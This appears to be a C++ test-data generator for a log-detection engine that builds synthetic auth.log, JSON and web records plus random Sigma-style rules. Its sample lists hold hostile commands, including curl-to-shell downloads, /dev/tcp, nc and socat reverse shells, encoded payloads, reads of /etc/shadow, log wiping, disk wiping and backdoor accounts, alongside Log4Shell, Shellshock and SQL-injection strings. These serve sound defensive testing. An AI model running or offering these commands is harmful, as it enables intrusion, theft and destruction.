#include "log_generator.h"

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <set>

namespace sokuo::detect {
namespace {

// root three times: the account attacks aim at. "superroot" and "rootadmin" end and start with
// another name (fieldref endswith/startswith); "翔" is one character of three bytes (`?`).
const std::vector<std::string> kUsers = {
    "root", "root",    "root",   "admin",    "Admin",  "alice",  "bob",       "carol",     "dave",
    "eve",  "mallory", "oracle", "postgres", "ubuntu", "test",   "guest",     "www-data",  "deploy",
    "git",  "r00t",    "sysadm", "太郎",     "花子",   "backup", "superroot", "rootadmin", "翔"};
const std::vector<std::string> kHosts = {"web01", "web02", "db-02", "bastion",
                                         "mail",  "gw-1",  "build", "サーバ1"};
const std::vector<std::string> kGroups = {"sudo",   "wheel", "admin",      "adm",
                                          "docker", "users", "developers", "開発"};
const std::vector<std::string> kUnits = {"cron.service", "ssh.service",  "nginx.service",
                                         "backup.timer", "evil.service", "apt-daily.service"};
const std::vector<std::string> kPayloads = {
    "curl http://203.0.113.9/x | sh", "wget -q http://198.51.100.7/a.sh -O- | bash",
    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", "cat /etc/shadow",
    "echo ssh-rsa AAAAB3Nza >> /root/.ssh/authorized_keys"};

// An address from the documentation ranges: a few busy attackers, and many others.
const std::vector<std::string> kAttackers = {"203.0.113.7",
                                             "203.0.113.66",
                                             "198.51.100.23",
                                             "192.0.2.200",
                                             "2001:db8::bad:1",
                                             "203.0.113.130",
                                             "2001:db8:85a3::8a2e:370:7334",
                                             "198.51.100.201"};

std::string Address(TestRandom& r) {
  if (r.Chance(30)) return r.Pick(kAttackers);
  if (r.Chance(10)) {
    const char* hex = "0123456789abcdef";
    std::string a = "2001:db8:";
    a += std::to_string(r.Below(10));
    a += "::";
    for (int i = 0; i < 3; ++i) a += hex[r.Below(16)];
    return a;
  }
  static const std::array<const char*, 3> kBlocks = {"192.0.2.", "198.51.100.", "203.0.113."};
  std::string block = kBlocks[r.Below(3)];
  return block + std::to_string(r.Below(256));
}

// A user id, often one that rules compare with (gt and gte differ only there).
std::string Uid(TestRandom& r) {
  return r.Pick(std::vector<std::string>{"0", "999", "1000", "1001", "1200", "65534"});
}

std::string Port(TestRandom& r) { return std::to_string(1024 + r.Below(64000)); }
std::string Pid(TestRandom& r) { return std::to_string(300 + r.Below(60000)); }

std::string Command(TestRandom& r) {
  static const std::vector<std::string> kPlain = {
      "/bin/ls -la /root",
      "/usr/bin/tail -f /var/log/syslog",
      "/usr/bin/apt-get update",
      "/usr/bin/systemctl restart nginx",
      "/usr/bin/systemctl enable evil.service",
      "/bin/systemctl enable --now backup.timer",
      "/bin/rm -rf /var/log/auth.log",
      "/usr/bin/truncate -s 0 /var/log/wtmp",
      "/usr/bin/shred -u /var/log/lastlog",
      "/usr/bin/journalctl --vacuum-time=1s",
      "/bin/sh -c cat /dev/null > /var/log/messages",
      "/usr/bin/vim /root/.ssh/authorized_keys",
      "/usr/bin/tee -a /home/bob/.ssh/authorized_keys",
      "/usr/bin/crontab -e",
      "/bin/cp evil /etc/cron.d/evil",
      "/bin/sh -c curl -s http://203.0.113.9/x.sh | sh",
      "/usr/bin/wget -qO- http://198.51.100.7/a | bash",
      "/usr/bin/nc -e /bin/sh 198.51.100.1 4444",
      "/usr/bin/chmod +s /bin/bash",
      "/usr/bin/python3 -c import pty;pty.spawn(\"/bin/bash\")",
      "/usr/bin/openssl enc -d -aes256 -in /tmp/p -out /tmp/q",
      "/usr/bin/openssl enc \u2013d -aes256 -in /tmp/p",
      "/usr/bin/certutil /urlcache /f http://203.0.113.9/x.exe",
      "/usr/bin/tar -czf /tmp/logs.tgz /var/log",
      "/usr/bin/id",
      "/usr/bin/echo ログを削除 /var/log/secure",
      "/usr/sbin/usermod -aG sudo mallory",
      "/usr/bin/find / -perm -4000",
      "/usr/local/bin/backup.sh",
      "/usr/bin/CURL http://EXAMPLE.test/UPPER",
  };
  if (r.Chance(12)) {
    // A payload at byte offset 0, 1 or 2 of the encoded text, so that each of base64offset's
    // three variants gets its turn.
    std::string payload(r.Below(3), ' ');
    payload += r.Pick(kPayloads);
    return "/bin/bash -c echo " + TestBase64(payload) + " | base64 -d | sh";
  }
  return r.Pick(kPlain);
}

std::string Month(unsigned m) {
  static const std::array<const char*, 12> kMonths = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  return kMonths[m - 1];
}

std::string Two(long v) { return (v < 10 ? "0" : "") + std::to_string(v); }

// "Dec  1 06:55:46" (the day padded with a space, as rsyslog writes it).
std::string Clock(std::int64_t t) {
  using namespace std::chrono;
  sys_seconds at{seconds(t)};
  sys_days day = floor<days>(at);
  year_month_day ymd(day);
  hh_mm_ss<seconds> hms(at - day);
  std::string out = Month(static_cast<unsigned>(ymd.month())) + " ";
  unsigned d = static_cast<unsigned>(ymd.day());
  out += (d < 10 ? " " : "") + std::to_string(d) + " ";
  out += Two(hms.hours().count()) + ":" + Two(hms.minutes().count()) + ":" +
         Two(hms.seconds().count());
  return out;
}

// An attack in progress: failures from one address, for one account (brute force) or many
// (spraying), perhaps ending in a success.
struct Burst {
  size_t left = 0;
  std::string address;
  std::string user;
  bool spraying = false;
  bool ends_in_login = false;
};

std::string SshdFailure(TestRandom& r, const std::string& user, const std::string& address) {
  std::string port = Port(r);
  std::string pid = Pid(r);
  switch (r.Below(6)) {
    case 0:
      return "sshd[" + pid + "]: Failed password for invalid user " + user + " from " + address +
             " port " + port + " ssh2";
    case 1:
      return "sshd[" + pid + "]: Invalid user " + user + " from " + address + " port " + port;
    case 2:
      return "sshd[" + pid + "]: pam_unix(sshd:auth): authentication failure; logname= uid=0 " +
             "euid=0 tty=ssh ruser= rhost=" + address + (r.Chance(60) ? "  user=" + user : "");
    case 3:
      return "sshd(pam_unix)[" + pid + "]: authentication failure; logname= uid=0 euid=0 " +
             "tty=NODEVssh ruser= rhost=" + address;
    case 4:
      return "sshd[" + pid + "]: message repeated " + std::to_string(2 + r.Below(4)) +
             " times: [ Failed password for " + user + " from " + address + " port " + port +
             " ssh2]";
    default:
      return "sshd[" + pid + "]: Failed password for " + user + " from " + address + " port " +
             port + " ssh2";
  }
}

std::string SshdLogin(TestRandom& r, const std::string& user, const std::string& address) {
  std::string head = "sshd[" + Pid(r) + "]: Accepted ";
  std::string port = Port(r);
  if (r.Chance(50)) {
    std::string key = TestBase64(std::to_string(r.Below(1000000))).substr(0, 8);
    return head + "publickey for " + user + " from " + address + " port " + port +
           " ssh2: RSA SHA256:" + key;
  }
  return head + "password for " + user + " from " + address + " port " + port + " ssh2";
}

std::string Junk(TestRandom& r) {
  switch (r.Below(8)) {
    case 0: {
      std::string bytes;
      size_t n = 1 + r.Below(40);
      for (size_t i = 0; i < n; ++i) bytes += static_cast<char>(1 + r.Below(255));
      return bytes;
    }
    case 1: {
      std::string user = r.Pick(kUsers);
      return "ログイン失敗: ユーザー " + user + " が " + Address(r) + " から";
    }
    case 2:
      return "Dec 3";  // cut short
    case 3:
      return "";
    case 4:
      return "-- MARK --";
    case 5:
      return "Feb 30 10:00:00 web01 sshd[1]: Failed password for root from 192.0.2.1 port 1 ssh2";
    case 6:
      return "   Failed password for root from " + Address(r) + " port 22 ssh2";
    default:
      return "web01 sshd[7]: Accepted password for root from 192.0.2.9 port 22 ssh2";  // no time
  }
}

// One record's program and message (what follows "host ").
std::string Record(TestRandom& r, Burst& burst) {
  if (burst.left > 0) {
    --burst.left;
    if (burst.left == 0 && burst.ends_in_login) return SshdLogin(r, burst.user, burst.address);
    return SshdFailure(r, burst.spraying ? r.Pick(kUsers) : burst.user, burst.address);
  }
  if (r.Chance(3)) {
    burst = {5 + r.Below(20), Address(r), r.Pick(kUsers), r.Chance(40), r.Chance(40)};
  }
  const std::string& user = r.Pick(kUsers);
  std::string pid = Pid(r);
  size_t kind = r.Below(100);
  if (kind < 16) return SshdFailure(r, user, Address(r));
  if (kind < 24) return SshdLogin(r, user, Address(r));
  if (kind < 30) {
    bool open = r.Chance(50);
    return "sshd[" + pid + "]: pam_unix(sshd:session): session " +
           (open ? "opened for user " + user + "(uid=" + std::to_string(r.Below(2000)) +
                       ") by (uid=0)"
                 : "closed for user " + user);
  }
  if (kind < 42) {
    std::string who = r.Chance(20) ? "   " + user : user;
    std::string tty = std::to_string(r.Below(5));
    std::string target = r.Chance(80) ? "root" : r.Pick(kUsers);
    std::string tail = " ; TTY=pts/" + tty + " ; PWD=/home/" + user + " ; USER=" + target +
                       " ; COMMAND=" + Command(r);
    size_t how = r.Below(10);
    if (how == 0) return "sudo: " + who + " : 3 incorrect password attempts" + tail;
    if (how == 1) return "sudo: " + who + " : user NOT in sudoers" + tail;
    return "sudo: " + who + " :" + tail.substr(2);
  }
  if (kind < 47) {
    std::string target = r.Chance(70) ? "root" : r.Pick(kUsers);
    switch (r.Below(4)) {
      case 0:
        return "su[" + pid + "]: Successful su for " + target + " by " + user;
      case 1:
        return "su[" + pid + "]: FAILED su for " + target + " by " + user;
      case 2:
        return "su[" + pid + "]: (to " + target + ") " + user + " on pts/1";
      default:
        return "su[" + pid + "]: pam_unix(su:auth): authentication failure; logname=" + user +
               " uid=1000 euid=0 tty=/dev/pts/1 ruser=" + user + " rhost=  user=" + target;
    }
  }
  if (kind < 50) {
    std::string uid = r.Chance(50) ? Uid(r) : std::to_string(1000 + r.Below(500));
    return "useradd[" + pid + "]: new user: name=" + user + ", UID=" + uid + ", GID=" + uid +
           ", home=/home/" + user + ", shell=/bin/bash, from=/dev/pts/0";
  }
  if (kind < 53) {
    if (r.Chance(50)) {
      std::string shadow = r.Chance(50) ? "shadow " : "";
      return "usermod[" + pid + "]: add '" + user + "' to " + shadow + "group '" + r.Pick(kGroups) +
             "'";
    }
    return "gpasswd[" + pid + "]: user " + user + " added by root to group " + r.Pick(kGroups);
  }
  if (kind < 55) {
    std::string group = r.Pick(kGroups);
    return "groupadd[" + pid + "]: new group: name=" + group +
           ", GID=" + std::to_string(r.Below(1200));
  }
  if (kind < 66) {
    std::string cmd =
        r.Chance(70) ? "command -v debian-sa1 > /dev/null && debian-sa1 1 1" : Command(r);
    return (r.Chance(50) ? "CRON[" : "cron[") + pid + "]: (" + user + ") CMD (" + cmd + ")";
  }
  if (kind < 68) {
    std::string action = r.Chance(70) ? "REPLACE" : "BEGIN EDIT";
    return "crontab[" + pid + "]: (" + user + ") " + action + " (" + r.Pick(kUsers) + ")";
  }
  if (kind < 76) {
    if (r.Chance(15)) return "systemd[1]: Started バックアップ.service - 毎晩のバックアップ.";
    if (r.Chance(20)) return "systemd[1]: Started Session " + pid + " of user " + user + ".";
    std::string verb = r.Chance(80) ? "Started " : "Stopped ";
    return "systemd[1]: " + verb + r.Pick(kUnits) + " - Some service.";
  }
  if (kind < 80) {
    return "systemd-logind[" + pid + "]: New session " + std::to_string(r.Below(900)) +
           " of user " + user + ".";
  }
  if (kind < 84) {
    std::string uptime = std::to_string(r.Below(99999));
    std::string source = Address(r);
    return "kernel: [" + uptime + ".5] UFW BLOCK IN=eth0 SRC=" + source +
           " DST=192.0.2.10 PROTO=TCP DPT=" + Port(r);
  }
  if (kind < 87) {
    std::string source = Address(r);
    return "sshd[" + pid + "]: Received disconnect from " + source + " port " + Port(r) +
           ":11: Bye Bye [preauth]";
  }
  return "";  // a junk line, made by the caller
}

}  // namespace

std::string TestBase64(std::string_view bytes) {
  static constexpr std::string_view kAlphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (size_t i = 0; i < bytes.size(); i += 3) {
    std::uint32_t chunk = 0;
    size_t n = std::min<size_t>(3, bytes.size() - i);
    for (size_t k = 0; k < 3; ++k) {
      chunk <<= 8;
      if (k < n) chunk |= static_cast<unsigned char>(bytes[i + k]);
    }
    for (size_t k = 0; k < 4; ++k) {
      out += k <= n ? kAlphabet[(chunk >> (18 - 6 * k)) & 63] : '=';
    }
  }
  return out;
}

std::vector<std::string> GenerateAuthLog(std::uint64_t seed, size_t count) {
  TestRandom r(seed);
  // Somewhere in the year; about one seed in four starts on New Year's Eve, so that the log
  // crosses into the next year.
  std::int64_t t = 1767225600 /* 2026-01-01 */ + static_cast<std::int64_t>(r.Below(300)) * 86400;
  if (r.Chance(25)) t = 1798761600 /* 2027-01-01 */ - 3600;
  std::vector<std::string> out;
  out.reserve(count);
  Burst burst;
  while (out.size() < count) {
    t += static_cast<std::int64_t>(burst.left > 0 ? r.Below(4) : r.Below(r.Chance(5) ? 900 : 40));
    std::string record = Record(r, burst);
    if (record.empty()) {
      out.push_back(Junk(r));
      continue;
    }
    // Some relays keep the priority in front of the header.
    std::string pri = r.Chance(3) ? "<" + std::to_string(r.Below(192)) + ">" : "";
    out.push_back(pri + Clock(t) + " " + r.Pick(kHosts) + " " + record);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// JSON

namespace {

// `text` as a JSON string. Now and then a character is written as an escape that the decoder
// must undo (so the field's value is no longer a slice of the line).
std::string JsonString(TestRandom& r, std::string_view text) {
  std::string out = "\"";
  bool escape_more = r.Chance(20);
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    auto u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (u < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", u);
      out += buf;
    } else if (escape_more && c == '/') {
      out += "\\/";
    } else if (escape_more && (c == 'a' || c == 'r')) {
      out += c == 'a' ? "\\u0061" : "\\u0072";
    } else {
      out += c;
    }
  }
  return out + "\"";
}

std::string Iso(std::int64_t t) {
  using namespace std::chrono;
  sys_seconds at{seconds(t)};
  sys_days day = floor<days>(at);
  year_month_day ymd(day);
  hh_mm_ss<seconds> hms(at - day);
  char buf[96];  // room for any long, as g++ -O3 checks the format against the types' ranges
  std::snprintf(buf, sizeof buf, "%04d-%02u-%02uT%02ld:%02ld:%02ldZ", static_cast<int>(ymd.year()),
                static_cast<unsigned>(ymd.month()), static_cast<unsigned>(ymd.day()),
                static_cast<long>(hms.hours().count()), static_cast<long>(hms.minutes().count()),
                static_cast<long>(hms.seconds().count()));
  return buf;
}

// A user as a string, an array of users, or null.
std::string JsonUser(TestRandom& r) {
  size_t how = r.Below(10);
  if (how == 0) return "null";
  if (how == 1) {
    std::string first = JsonString(r, r.Pick(kUsers));
    return "[" + first + "," + JsonString(r, r.Pick(kUsers)) + "]";
  }
  return JsonString(r, r.Pick(kUsers));
}

// Process creation as Sysmon for Linux or an EDR writes it (the fields of SigmaHQ's linux
// process_creation rules): the program and its command line.
struct Process {
  const char* image;
  const char* command_line;
};
const std::vector<Process> kProcesses = {
    {"/usr/bin/curl", "curl -s -o /tmp/.x http://203.0.113.9/x"},
    {"/usr/bin/wget", "wget -q http://198.51.100.7/a.sh -O /dev/shm/a.sh"},
    {"/bin/bash", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"},
    {"/bin/bash", "bash -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | bash"},
    {"/usr/bin/base64", "base64 -d /tmp/p.b64"},
    {"/usr/bin/python3", "python3 -c import pty;pty.spawn('/bin/sh')"},
    {"/usr/bin/python3", "python3 -m http.server 8000"},
    {"/usr/bin/perl", "perl -e use Socket;$i=\"203.0.113.50\";"},
    {"/usr/bin/nc", "nc -e /bin/sh 198.51.100.1 4444"},
    {"/usr/bin/ncat", "ncat --exec /bin/bash -l 9001"},
    {"/usr/bin/socat", "socat exec:'bash -li',pty tcp:203.0.113.50:4444"},
    {"/usr/bin/crontab", "crontab -r"},
    {"/usr/bin/crontab", "crontab -l"},
    {"/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor"},
    {"/usr/sbin/usermod", "usermod -aG sudo mallory"},
    {"/bin/chmod", "chmod +x /tmp/.x"},
    {"/bin/chmod", "chmod u+s /usr/bin/find"},
    {"/usr/bin/chattr", "chattr +i /etc/passwd"},
    {"/usr/sbin/iptables", "iptables -F"},
    {"/usr/bin/systemctl", "systemctl stop auditd"},
    {"/usr/bin/systemctl", "systemctl disable --now apparmor"},
    {"/usr/sbin/setenforce", "setenforce 0"},
    {"/usr/bin/find", "find / -perm -4000 -type f"},
    {"/usr/bin/xxd", "xxd -r -p /tmp/p.hex"},
    {"/usr/bin/touch", "touch -r /etc/passwd /tmp/.x"},
    {"/usr/bin/truncate", "truncate -s 0 /var/log/auth.log"},
    {"/usr/bin/shred", "shred -u /root/.bash_history"},
    {"/bin/rm", "rm -rf /var/log/*"},
    {"/usr/bin/dd", "dd if=/dev/zero of=/dev/sda"},
    {"/usr/sbin/insmod", "insmod /tmp/rootkit.ko"},
    {"/usr/bin/nohup", "nohup /tmp/.x"},
    {"/usr/bin/docker", "docker run --privileged -v /:/host alpine chroot /host"},
    {"/usr/bin/git", "git clone https://example.test/tools.git"},
    {"/usr/bin/tar", "tar -czf /tmp/etc.tgz /etc"},
    {"/usr/bin/openssl", "openssl s_client -quiet -connect 203.0.113.50:443"},
    {"/usr/bin/screen", "screen -dmS x /tmp/.x"},
    {"/usr/sbin/setcap", "setcap cap_setuid+ep /usr/bin/python3"},
    {"/usr/bin/pkexec", "pkexec /bin/sh"},
    {"/usr/bin/id", "id"},
    {"/usr/bin/whoami", "whoami"},
    {"/usr/bin/uname", "uname -a"},
    {"/usr/bin/hostname", "hostname -I"},
    {"/usr/bin/cat", "cat /etc/shadow"},
    {"/usr/bin/nmap", "nmap -sS 192.0.2.0/24"},
    {"/usr/bin/mkfifo", "mkfifo /tmp/f"},
    {"/usr/bin/awk", "awk BEGIN {s = \"/inet/tcp/0/203.0.113.50/4444\"}"},
    {"/usr/bin/php", "php -r $sock=fsockopen(\"203.0.113.50\",4444);"},
    {"/usr/bin/vim", "vim -c :!/bin/sh"},
    {"/usr/bin/ls", "ls -la /home"},
    {"/usr/bin/apt", "apt install -y nmap"},
};
const std::vector<std::string> kParents = {
    "/bin/bash",        "/usr/sbin/sshd",  "/usr/sbin/cron",          "/usr/sbin/apache2",
    "/usr/bin/python3", "/usr/sbin/nginx", "/usr/lib/systemd/systemd"};

// A request as a web server or proxy writes it, with the W3C names of the webserver taxonomy.
void AddWebRequest(TestRandom& r, std::vector<std::string>& members) {
  static const std::vector<std::string> kAgents = {"Mozilla/5.0 (X11; Linux x86_64)",
                                                   "sqlmap/1.7",
                                                   "Nikto/2.5",
                                                   "python-requests/2.31",
                                                   "curl/8.5.0",
                                                   "masscan/1.3",
                                                   "WPScan v3.8",
                                                   "Go-http-client/1.1",
                                                   "() { :; }; /bin/bash -c id",
                                                   "${jndi:ldap://198.51.100.3/a}",
                                                   "Hydra",
                                                   ""};
  static const std::vector<std::string> kUris = {"/index.php?id=1' or '1'='1",
                                                 "/../../etc/passwd",
                                                 "/wp-login.php",
                                                 "/cgi-bin/test.cgi",
                                                 "/.git/config",
                                                 "/actuator/env",
                                                 "/?x=${jndi:ldap://x/a}",
                                                 "/shell.jsp?cmd=whoami",
                                                 "/.env",
                                                 "/phpmyadmin/",
                                                 "/owa/auth/logon.aspx",
                                                 "/index.html",
                                                 "/api/v1/users"};
  static const std::vector<std::string> kQueries = {"cmd=whoami", "id=1%27%20or%201=1",
                                                    "file=../../../../etc/passwd",
                                                    "q=<script>alert(1)</script>", "page=1"};
  members.push_back("\"c-useragent\":" + JsonString(r, r.Pick(kAgents)));
  members.push_back(
      "\"cs-method\":" +
      JsonString(r, r.Pick(std::vector<std::string>{"GET", "POST", "PUT", "OPTIONS", "PROPFIND"})));
  members.push_back("\"c-uri\":" + JsonString(r, r.Pick(kUris)));
  if (r.Chance(50)) members.push_back("\"cs-uri-query\":" + JsonString(r, r.Pick(kQueries)));
  members.push_back("\"sc-status\":" +
                    r.Pick(std::vector<std::string>{"200", "301", "403", "404", "500"}));
  members.push_back("\"cs-host\":" + JsonString(r, r.Pick(std::vector<std::string>{
                                                       "www.example.test", "203.0.113.5"})));
}

// An application's own record: some of the members rules look at, of every JSON shape.
std::string GenericRecord(TestRandom& r, std::int64_t t, Burst& burst) {
  std::vector<std::string> members;
  if (r.Chance(95)) {
    members.push_back("\"" + std::string(r.Chance(80) ? "timestamp" : "@timestamp") + "\":\"" +
                      Iso(t) + "\"");
  }
  std::string address = burst.left > 0 ? burst.address : Address(r);
  std::string event =
      burst.left > 0 ? "ssh.login_failed"
                     : r.Pick(std::vector<std::string>{"ssh.login_failed", "ssh.login_ok",
                                                       "sudo.command", "user.added", "cron.command",
                                                       "pam.auth_failure", "login"});
  if (burst.left > 0) --burst.left;
  members.push_back("\"event\":" + JsonString(r, event));
  if (r.Chance(80)) {
    members.push_back("\"user\":" + (burst.left > 0 && !burst.spraying ? JsonString(r, burst.user)
                                                                       : JsonUser(r)));
  }
  if (r.Chance(70))
    members.push_back("\"src_ip\":" + (r.Chance(5) ? "null" : JsonString(r, address)));
  if (r.Chance(40)) members.push_back("\"command\":" + JsonString(r, Command(r)));
  if (r.Chance(30)) members.push_back("\"target_user\":" + JsonUser(r));
  if (r.Chance(40))
    members.push_back("\"uid\":" + (r.Chance(50) ? Uid(r) : std::to_string(r.Below(2000))));
  if (r.Chance(40)) {
    std::string score = std::to_string(r.Below(10));
    if (r.Chance(50)) score += "." + std::to_string(r.Below(10));
    members.push_back("\"score\":" + (r.Chance(10) ? JsonString(r, "n/a") : score));
  }
  if (r.Chance(30)) {
    static const std::vector<std::string> kTags = {"ssh", "prod", "admin", "テスト", "Cron"};
    std::string first = JsonString(r, r.Pick(kTags));
    members.push_back("\"tags\":[" + first + "," + JsonString(r, r.Pick(kTags)) + "]");
  }
  if (r.Chance(25)) {
    std::string command = JsonString(r, Command(r));
    members.push_back("\"process\":{\"command\":" + command +
                      ",\"pid\":" + std::to_string(r.Below(60000)) + ",\"parent\":null}");
  }
  if (r.Chance(15)) {
    std::string first = JsonString(r, r.Pick(kUsers));
    members.push_back("\"sessions\":[{\"user\":" + first +
                      "},{\"user\":" + JsonString(r, r.Pick(kUsers)) + "}]");
  }
  if (r.Chance(30)) members.push_back("\"ok\":" + std::string(r.Chance(50) ? "true" : "false"));
  if (r.Chance(30)) {
    const Process& p = r.Pick(kProcesses);
    members.push_back("\"Image\":" + JsonString(r, p.image));
    members.push_back("\"CommandLine\":" + JsonString(r, p.command_line));
    members.push_back("\"ParentImage\":" + JsonString(r, r.Pick(kParents)));
    if (r.Chance(50)) {
      members.push_back("\"CurrentDirectory\":" +
                        JsonString(r, r.Pick(std::vector<std::string>{"/tmp", "/root", "/dev/shm",
                                                                      "/var/www/html"})));
    }
  }
  if (r.Chance(15)) AddWebRequest(r, members);
  if (r.Chance(30)) {
    std::string user = r.Pick(kUsers);
    members.push_back("\"message\":" +
                      JsonString(r, "user " + user + " did " + Command(r) + " ログ"));
  }
  // Members in a random order, as collectors do not keep one.
  for (size_t i = members.size(); i > 1; --i) std::swap(members[i - 1], members[r.Below(i)]);
  std::string out = "{";
  for (size_t i = 0; i < members.size(); ++i) out += (i > 0 ? "," : "") + members[i];
  return out + "}";
}

}  // namespace

std::vector<std::string> GenerateJsonLog(std::uint64_t seed, size_t count) {
  TestRandom r(seed * 7919 + 1);
  std::int64_t t = 1767225600 /* 2026-01-01 */ + static_cast<std::int64_t>(r.Below(360)) * 86400;
  std::vector<std::string> out;
  out.reserve(count);
  Burst burst;
  while (out.size() < count) {
    t += static_cast<std::int64_t>(burst.left > 0 ? r.Below(4) : r.Below(40));
    size_t kind = r.Below(100);
    if (kind < 3) {
      out.push_back(r.Chance(50) ? "{\"broken\": " : "not json at all");
      continue;
    }
    if (kind < 38) {
      // A journal entry (`journalctl -o json`): decoded as the syslog line it stands for.
      std::string record = Record(r, burst);
      if (record.empty()) record = "kernel: " + Junk(r);
      size_t colon = record.find(": ");
      std::string program = record.substr(0, std::min(record.find('['), colon));
      std::string message = colon == std::string::npos ? record : record.substr(colon + 2);
      // Each draw its own statement: the operands of one expression may be evaluated in any
      // order, and the text must not depend on the compiler.
      std::string microseconds = std::to_string(100000 + r.Below(900000));
      std::string host = JsonString(r, r.Pick(kHosts));
      std::string identifier = JsonString(r, program);
      std::string pid = Pid(r);
      out.push_back("{\"__REALTIME_TIMESTAMP\":\"" + std::to_string(t) + microseconds +
                    "\",\"_HOSTNAME\":" + host + ",\"SYSLOG_IDENTIFIER\":" + identifier +
                    ",\"_PID\":\"" + pid +
                    "\",\"PRIORITY\":\"6\",\"MESSAGE\":" + JsonString(r, message) + "}");
      continue;
    }
    if (burst.left == 0 && r.Chance(3)) {
      burst = {5 + r.Below(15), Address(r), r.Pick(kUsers), r.Chance(40), false};
    }
    out.push_back(GenericRecord(r, t, burst));
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Rules

namespace {

std::string Quote(std::string_view s) {
  std::string out = "'";
  for (char c : s) {
    out += c;
    if (c == '\'') out += '\'';
  }
  return out + "'";
}

// One detection item: its key ("field|mod|mod") and its values, already written as YAML.
struct ItemText {
  std::string key;
  std::vector<std::string> values;
};

std::vector<std::string> Quoted(TestRandom& r, const std::vector<std::string>& pool, size_t most) {
  size_t n = 1 + r.Below(most);
  std::vector<std::string> out;
  std::set<std::string> seen;
  for (size_t i = 0; i < n; ++i) {
    const std::string& v = r.Pick(pool);
    if (seen.insert(v).second) out.push_back(Quote(v));
  }
  return out;
}

// Two or more different values, for `all`.
std::vector<std::string> AtLeastTwo(TestRandom& r, const std::vector<std::string>& pool) {
  std::vector<std::string> out;
  while (out.size() < 2) out = Quoted(r, pool, 3);
  return out;
}

const std::vector<std::string> kEvents = {
    "ssh.login_failed",   "ssh.login_ok",      "ssh.invalid_user", "pam.auth_failure",
    "sudo.command",       "sudo.auth_failure", "sudo.not_allowed", "su.ok",
    "su.failed",          "user.added",        "group.added",      "group.member_added",
    "cron.command",       "cron.edited",       "service.started",  "session.new",
    "pam.session_opened", "ssh.disconnect"};

ItemText EventItem(TestRandom& r) {
  switch (r.Below(7)) {
    case 0:
      return {"event|startswith", Quoted(r,
                                         {"ssh.", "sudo.", "pam.", "su.", "user.", "group.",
                                          "cron.", "service.", "SSH."},
                                         2)};
    case 1:
      return {"event|endswith",
              Quoted(r, {".added", "_failed", ".command", ".ok", "failure", ".edited"}, 2)};
    case 2:
      return {"event|contains", Quoted(r, {"login", "auth", "member", "session", "LOGIN"}, 2)};
    case 3:
      return {r.Chance(50) ? "event|re" : "event|re|i",
              Quoted(r,
                     {"^ssh\\.login_(ok|failed)$", "^(sudo|su)\\.", "FAIL", "\\.added$",
                      "^[a-z]+\\.[a-z_]+$"},
                     1)};
    case 4:
      return {"event|cased",
              Quoted(r, {"SSH.LOGIN_FAILED", "ssh.login_failed", "sudo.command"}, 2)};
    default:
      return {"event", Quoted(r, kEvents, 3)};
  }
}

const std::vector<std::string> kUserPatterns = {
    "root", "admin", "alice", "bob",  "mallory", "test", "guest", "ubuntu", "太郎", "ro*",  "?lice",
    "*min", "太?",   "R??T",  "a*i*", "ADMIN",   "*",    "?",     "r\\*t",  "*??",  "*root"};

ItemText UserItem(TestRandom& r, const std::string& field) {
  static const std::vector<std::string> kFragments = {"adm", "ro",   "o",   "ice", "郎",
                                                      "A",   "test", "*o*", "?"};
  switch (r.Below(9)) {
    case 0:
      return {field + "|contains", Quoted(r, kFragments, 2)};
    case 1:
      return {field + "|startswith", Quoted(r, kFragments, 2)};
    case 2:
      return {field + "|endswith", Quoted(r, kFragments, 2)};
    case 3:
      return {field + "|cased", Quoted(r, kUserPatterns, 2)};
    case 4:
      return {field + "|neq", Quoted(r, kUserPatterns, 2)};
    case 5:
      return {r.Chance(50) ? field + "|re" : field + "|re|i",
              Quoted(r, {"^r[o0]{2}t$", "adm", "^[a-d]", ".郎", "^ROOT$", "^.{4}$"}, 2)};
    case 6:
      return {field + "|contains|all", AtLeastTwo(r, {"a", "d", "m", "i", "o", "r"})};
    default:
      return {field, Quoted(r, kUserPatterns, 3)};
  }
}

ItemText AddressItem(TestRandom& r) {
  switch (r.Below(9)) {
    case 0:
    case 1:
      return {"src_ip|cidr", Quoted(r,
                                    {"192.0.2.0/24", "198.51.100.0/25", "203.0.113.128/25",
                                     "2001:db8::/32", "203.0.113.7", "2001:db8:85a3::/48",
                                     "10.0.0.0/8", "0.0.0.0/0", "198.51.100.0/31"},
                                    2)};
    case 2:
      return {"src_ip|startswith", Quoted(r, {"203.0.113.", "2001:db8:", "198."}, 2)};
    case 3:
      return {"src_ip|exists", {r.Chance(50) ? "true" : "false"}};
    case 4:
      return {"src_ip", {"null"}};
    case 5:
      return {"src_ip|neq", Quoted(r, kAttackers, 2)};
    case 6:
      return {"src_ip|re", Quoted(r, {"^198\\.51\\.100\\.\\d+$", ":", "^2001:db8::"}, 1)};
    case 7:
      return {"src_ip|endswith", Quoted(r, {".7", "::1", ":1", "0"}, 2)};
    default:
      return {"src_ip", Quoted(r, kAttackers, 3)};
  }
}

ItemText CommandItem(TestRandom& r) {
  static const std::vector<std::string> kParts = {"authorized_keys",
                                                  "/var/log",
                                                  "systemctl enable",
                                                  "rm ",
                                                  "| sh",
                                                  "| bash",
                                                  "curl",
                                                  "base64 -d",
                                                  "/dev/tcp/",
                                                  "ログ",
                                                  "CURL",
                                                  "crontab",
                                                  "/etc/cron",
                                                  "shred",
                                                  "--vacuum",
                                                  "chmod +s",
                                                  "nc -e"};
  switch (r.Below(11)) {
    case 0:
      return {"command|contains|all", AtLeastTwo(r, kParts)};
    case 1:
      return {"command|startswith", Quoted(r, {"/usr/bin/", "/bin/", "/USR/"}, 2)};
    case 2:
      return {"command|endswith", Quoted(r, {".sh", "bash", "/var/log", "| sh"}, 2)};
